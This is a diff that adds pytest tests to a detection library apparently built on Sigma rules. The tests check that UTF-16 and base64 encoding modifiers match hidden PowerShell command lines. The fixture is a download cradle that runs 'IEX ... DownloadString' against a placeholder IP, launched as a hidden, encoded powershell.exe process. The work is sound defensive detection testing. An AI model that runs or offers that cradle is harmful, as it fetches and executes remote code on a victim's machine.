@@ -3,10 +3,14 @@
 from __future__ import annotations
 
 import base64
+import codecs
 import textwrap
 from typing import Any
 
 import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from correlator.detection import RuleSet, flatten_evtx, rules_from_yaml
 
@@ -69,6 +73,116 @@ class TestEncodings:
         for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
             assert fires(rs, {"cmd": f"psexec {dash}exec cmd"}), dash
         assert not fires(rs, {"cmd": "psexec +exec cmd"})
+
+
+def encoded_rule(field: str, modifiers: str, value: str) -> RuleSet:
+    """A rule on ``field|modifiers: value``, the value written as YAML does
+    (any text, quotes and all)."""
+    detection = yaml.safe_dump(
+        {"sel": {f"{field}|{modifiers}": value}, "condition": "sel"}, allow_unicode=True
+    )
+    return one(detection)
+
+
+# A download cradle as an attacker types it (Microsoft's about_PowerShell_exe:
+# -EncodedCommand takes the base64 of the command's UTF-16LE bytes).
+SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
+JAPANESE_SCRIPT = "Write-Host 'パスワードを変更しました'; Get-ChildItem -Path D:/住民税/2026"
+UTF16 = {
+    "wide": lambda text: text.encode("utf-16-le"),
+    "utf16le": lambda text: text.encode("utf-16-le"),
+    "utf16be": lambda text: text.encode("utf-16-be"),
+    "utf16": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
+}
+
+
+def command_line(blob: bytes) -> dict[str, Any]:
+    encoded = base64.b64encode(blob).decode()
+    return {"process": {"command_line": f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}"}}
+
+
+class TestUTF16UnderBase64:
+    """``utf16``, ``utf16le``/``wide``, ``utf16be`` before ``base64`` and
+    ``base64offset`` match what Windows programs write (modifiers.py)."""
+
+    def test_utf16_base64_matches_a_blob_with_its_byte_order_mark(self) -> None:
+        # pySigma 1.5 encoded the BOM as UTF-8 (EF BB BF): this never matched.
+        blob = codecs.BOM_UTF16_LE + SCRIPT.encode("utf-16-le")
+        assert blob[:2] == b"\xff\xfe"
+        rs = encoded_rule("process.command_line", "utf16|base64|contains", SCRIPT)
+        assert fires(rs, command_line(blob))
+        # the same command without a BOM is not what `utf16` describes
+        assert not fires(rs, command_line(SCRIPT.encode("utf-16-le")))
+        assert not fires(rs, command_line(codecs.BOM_UTF8 + SCRIPT.encode("utf-16-le")))
+
+    def test_utf16_base64_equals_the_whole_blob(self) -> None:
+        blob = base64.b64encode(codecs.BOM_UTF16_LE + "whoami /all".encode("utf-16-le")).decode()
+        rs = encoded_rule("powershell.encoded", "utf16|base64", "whoami /all")
+        assert fires(rs, {"powershell": {"encoded": blob}})
+        assert not fires(rs, {"powershell": {"encoded": blob[:-4]}})
+
+    @pytest.mark.parametrize("modifier", sorted(UTF16))
+    @pytest.mark.parametrize("script", [SCRIPT, JAPANESE_SCRIPT], ids=["ascii", "japanese"])
+    def test_base64_of_the_whole_command(self, modifier: str, script: str) -> None:
+        rs = encoded_rule("process.command_line", f"{modifier}|base64|contains", script)
+        assert fires(rs, command_line(UTF16[modifier](script)))
+        blobs = {encode(script) for encode in UTF16.values()} | {script.encode("utf-8")}
+        for other in blobs - {UTF16[modifier](script)}:
+            assert not fires(rs, command_line(other))
+
+    @pytest.mark.parametrize("modifier", sorted(UTF16))
+    @pytest.mark.parametrize(
+        ("script", "word"),
+        [(SCRIPT, "DownloadString"), (JAPANESE_SCRIPT, "パスワード")],
+        ids=["ascii", "japanese"],
+    )
+    @pytest.mark.parametrize("prefix", ["", "$a=1;", "$ab=1;"])
+    def test_base64offset_finds_a_word_at_any_alignment(
+        self, modifier: str, script: str, word: str, prefix: str
+    ) -> None:
+        rs = encoded_rule("process.command_line", f"{modifier}|base64offset|contains", word)
+        encode = UTF16[modifier]
+        assert fires(rs, command_line(encode(prefix + script)))
+        assert not fires(rs, command_line((prefix + script).encode("utf-8")))
+        assert not fires(rs, command_line(encode(prefix + script.replace(word, "x"))))
+
+    @settings(max_examples=150, deadline=None)
+    @given(
+        word=st.text(
+            st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="*?\\"),
+            min_size=2,
+            max_size=12,
+        ),
+        before=st.text(max_size=7),
+        after=st.text(max_size=5),
+        modifier=st.sampled_from(sorted(UTF16)),
+    )
+    def test_any_text_is_found_in_any_utf16_blob(
+        self, word: str, before: str, after: str, modifier: str
+    ) -> None:
+        # a whole blob: the BOM (utf16) is at its start, not before the word
+        blob = UTF16[modifier](before + word + after)
+        rs = encoded_rule("cmd", f"{modifier}|base64offset|contains", word)
+        assert fires(rs, {"cmd": base64.b64encode(blob).decode()}), blob
+
+    def test_wide_without_base64_keeps_the_text_form(self) -> None:
+        rs = encoded_rule("cmd", "wide|contains", "cmd")
+        assert fires(rs, {"cmd": "x" + "cmd".encode("utf-16-le").decode("latin-1")})
+        text = RULE.format(
+            title="Wide non-ASCII text",
+            id="6a7c0000-0000-4000-8000-000000000003",
+            detection="    sel:\n        cmd|wide|contains: 'パスワード'\n    condition: sel",
+        )
+        (err,) = rules_from_yaml(text, pipeline="none").errors
+        assert "ascii" in str(err)
+
+    def test_rules_check_sees_the_modifiers_by_their_names(self) -> None:
+        from sigma.rule import SigmaRule
+
+        rs = encoded_rule("cmd", "utf16|base64offset|contains", "whoami")
+        (rule,) = rs.detections
+        modifiers = SigmaRule.from_yaml(rule.text).to_dict()["detection"]["sel"]
+        assert list(modifiers) == ["cmd|utf16|base64offset|contains"]
 
 
 class TestOtherModifiers:
